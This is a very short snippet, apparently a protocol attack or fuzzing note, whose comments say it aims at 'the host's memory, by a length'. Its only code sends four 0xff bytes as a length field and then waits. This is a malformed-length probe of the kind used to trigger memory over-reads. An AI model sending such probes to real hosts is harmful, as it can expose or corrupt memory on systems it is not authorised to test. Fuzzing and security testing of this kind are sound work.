# aim: the host's memory, by a length
# kind: protocol
# source: own
# ends: frame
send(b'\xff\xff\xff\xff')
wait()
